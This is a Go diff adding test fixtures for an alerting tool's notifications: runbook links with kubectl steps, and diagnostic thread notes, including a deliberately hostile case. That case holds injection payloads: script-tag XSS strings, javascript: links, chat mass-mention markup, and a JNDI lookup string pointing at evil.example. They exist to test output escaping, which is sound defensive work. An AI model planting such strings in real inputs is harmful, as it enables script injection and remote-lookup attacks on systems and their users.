@@ -92,12 +92,87 @@ func Cases() map[string]*notify.Message {
 	}
 	group.URL = group.AlertURL(40)
 
+	firing := single(crashLooping(12, "api-7d9f"))
+	firing.Runbook = &notify.RunbookLink{
+		Title: "Pod crash looping",
+		URL:   BaseURL + "/runbooks/pod-crash-looping?alert=12",
+		Steps: []string{
+			"kubectl -n prod describe pod api-7d9f",
+			"kubectl -n prod logs api-7d9f -c api --previous --tail=50\nkubectl -n prod get events --field-selector involvedObject.name=api-7d9f",
+		},
+		More: 2,
+	}
+
+	// The runbook's title is operator-written, but its steps carry label
+	// values: every format's specials, in both.
+	hostileMsg := single(hostile)
+	hostileMsg.Runbook = &notify.RunbookLink{
+		Title: "</code><script>alert(1)</script> <!channel> *bold* | pipe & <https://evil.example|click>",
+		URL:   BaseURL + "/runbooks/evil?alert=66",
+		Steps: []string{
+			"kubectl -n prod logs </code></pre><script>alert(1)</script> --tail=50",
+			"echo '<!channel> <!here> <@U123> *bold* _it_ ~x~ | <https://evil.example|click> &amp; @room #room:evil'\necho '[x](javascript:alert(1))' \"}]}\"",
+			"printf '%s\\n' \"${jndi:ldap://evil.example/x}\" {{ .Labels }}",
+		},
+		More: 1,
+	}
+
+	group.Runbook = &notify.RunbookLink{
+		Title: "Pod crash looping",
+		URL:   BaseURL + "/runbooks/pod-crash-looping?alert=40",
+		Steps: []string{"kubectl -n prod describe pod api-0"},
+	}
+
 	return map[string]*notify.Message{
-		"critical_firing":   single(crashLooping(12, "api-7d9f")),
+		"critical_firing":   firing,
 		"critical_acked":    single(acked),
 		"critical_resolved": single(resolved),
 		"warning_firing":    single(warning),
-		"hostile":           single(hostile),
+		"hostile":           hostileMsg,
 		"group":             group,
+	}
+}
+
+// Notes are the sample thread notes, by golden-file name: a diagnostics
+// run with every kind of outcome, and one of hostile text.
+func Notes() map[string]*notify.Note {
+	return map[string]*notify.Note{
+		"note": {
+			GroupID: 7, AlertID: 12,
+			Title: "Diagnostics for alert 12: KubePodCrashLooping prod/api-7d9f (asked by @alice:example.org)",
+			URL:   BaseURL + "/alerts/12",
+			Items: []notify.NoteItem{
+				{
+					Heading: "kubectl -n prod get pod api-7d9f -o wide",
+					Status:  "exit 0 in 0.4s", OK: true,
+					Body: "NAME       READY   STATUS             RESTARTS   AGE\napi-7d9f   0/1     CrashLoopBackOff   5          10m",
+				},
+				{
+					Heading: "kubectl -n prod logs api-7d9f -c api --previous --tail=50",
+					Status:  "exit 1 in 0.2s",
+					Body:    "Error from server (BadRequest): previous terminated container \"api\" in pod \"api-7d9f\" not found",
+				},
+				{
+					Heading: "kubectl -n prod delete pod api-7d9f",
+					Status:  "refused: kubectl delete is not on the allowlist",
+				},
+				{
+					Heading:   "kubectl -n prod get events --watch",
+					Status:    "timed out after 10s",
+					Body:      "LAST SEEN   TYPE      REASON    OBJECT         MESSAGE\n2m          Warning   BackOff   pod/api-7d9f   Back-off restarting failed container",
+					Truncated: true,
+				},
+			},
+		},
+		"note_hostile": {
+			GroupID: 7, AlertID: 66,
+			Title: "Diagnostics for alert 66: Evil*Alert_<b>&amp; prod/<script>alert(1)</script> <!here>",
+			URL:   BaseURL + "/alerts/66",
+			Items: []notify.NoteItem{{
+				Heading: "echo </code></pre></details><script>alert(1)</script> <!here> *bold* | `x`",
+				Status:  "exit 0 in 1ms <!channel> <https://evil.example|click>", OK: true,
+				Body: "</code></pre></details><script>alert(1)</script>\n<!here> <!channel> <@U123> *bold* _it_ ~x~ `code` ```fence``` | <https://evil.example|click> &amp; @room\n<a href=\"javascript:alert(1)\">x</a> <users/all>",
+			}},
+		},
 	}
 }
